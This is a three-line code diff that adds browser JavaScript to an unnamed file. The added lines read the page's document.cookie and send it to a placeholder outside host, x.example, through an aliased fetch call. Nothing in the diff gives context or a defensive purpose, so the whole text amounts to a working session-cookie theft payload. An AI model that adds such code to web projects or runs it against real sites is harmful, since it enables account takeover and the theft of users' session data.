@@ -1,0 +1,3 @@
+const f = fetch;
+const { cookie } = document;
+f(`https://x.example/?${cookie}`);
